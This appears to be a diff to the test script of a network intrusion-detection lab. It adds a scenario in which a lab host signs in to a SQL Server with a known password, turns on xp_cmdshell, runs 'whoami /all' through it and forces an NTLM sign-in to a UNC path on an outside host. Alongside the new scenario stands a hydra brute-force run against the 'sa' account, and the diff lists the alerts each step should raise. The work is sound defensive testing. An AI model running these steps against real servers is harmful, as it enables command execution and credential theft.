@@ -1952,16 +1952,27 @@ c.disconnect()'
   nsx ws22 timeout 10 /usr/bin/python3 -c "$login" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
   nsx ws22 timeout 10 /usr/bin/python3 -c "$login" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
   nsx inet timeout 10 /usr/bin/python3 -c "$login" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
+  # 10.77.2.26, holding the password, turns the server against its host: xp_cmdshell on and run,
+  # and a UNC path on the Internet host (the server's NTLM sign-in would go there; nothing listens).
+  nsx ws26 timeout 10 /usr/bin/python3 -c "$login
+c = tds.MSSQL(sys.argv[1], 1433)
+c.connect()
+c.login(None, sys.argv[2], sys.argv[3])
+for q in (\"EXEC sp_configure 'show advanced options', 1; RECONFIGURE;\", \"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;\",
+          \"EXEC master..xp_cmdshell 'whoami /all'\", \"EXEC master..xp_dirtree '\\\\\\\\198.51.100.10\\\\share'\"):
+    c.sql_query(q)
+c.disconnect()" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
   # 10.77.2.24 guesses sa's password with hydra's mssql module: 20 words, none right.
   for i in $(seq 1 20); do printf 'sql%02d\n' "$i"; done >"$WORK/mssql-passwords.txt"
   (cd "$WORK" && nsx ws24 timeout 120 hydra -I -l sa -P "$WORK/mssql-passwords.txt" -t 4 mssql://10.77.1.10 >"$WORK/logs/hydra-mssql.txt" 2>&1) || true
   stop_capture
-  [ "$(grep -c True "$WORK/mssql.txt")" = 3 ] || { log "mssql: the sign-ins did not succeed: $(cat "$WORK/mssql.txt")"; return 1; }
+  [ "$(grep -c True "$WORK/mssql.txt")" = 4 ] || { log "mssql: the sign-ins did not succeed: $(cat "$WORK/mssql.txt")"; return 1; }
   grep -q "0 valid password" "$WORK/logs/hydra-mssql.txt" || { log "mssql: $(tail -n 3 "$WORK/logs/hydra-mssql.txt")"; return 1; }
   require mssql 20 "tcp[tcpflags] == tcp-syn and src host 10.77.2.24 and dst port 1433"
-  expect mssql "A SQL Server login endpoint (test/lab/tds-server.py, TDS 7.4 without encryption: logins in clear) on the server 10.77.1.10, user app. The application server 10.77.2.22 signs in twice and the Internet host 198.51.100.10 once with Impacket's TDS client; 10.77.2.24 runs hydra 9.4's mssql module with 20 wrong passwords for sa. device.new may fire for the server network's hosts, whose first frames these are." \
+  expect mssql "A SQL Server login endpoint (test/lab/tds-server.py, TDS 7.4 without encryption: logins in clear) on the server 10.77.1.10, user app. The application server 10.77.2.22 signs in twice and the Internet host 198.51.100.10 once with Impacket's TDS client; 10.77.2.26 signs in, turns xp_cmdshell on, runs whoami through it and makes the server list a UNC path on 198.51.100.10 (xp_dirtree); 10.77.2.24 runs hydra 9.4's mssql module with 20 wrong passwords for sa. device.new may fire for the server network's hosts, whose first frames these are." \
     '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"service": "mssql", "mode": "failures"}},
-    {"rule": "auth.cleartext", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"service": "mssql", "internet": true}}]' \
+    {"rule": "auth.cleartext", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"service": "mssql", "internet": true}},
+    {"rule": "mssql.command_exec", "source": {"ip": "10.77.2.26"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"kinds": ["enable_xp_cmdshell", "xp_cmdshell", "unc_path"], "user": "app"}}]' \
     '  "exclusive": true,
   "allow": ["device.new"]'
 }
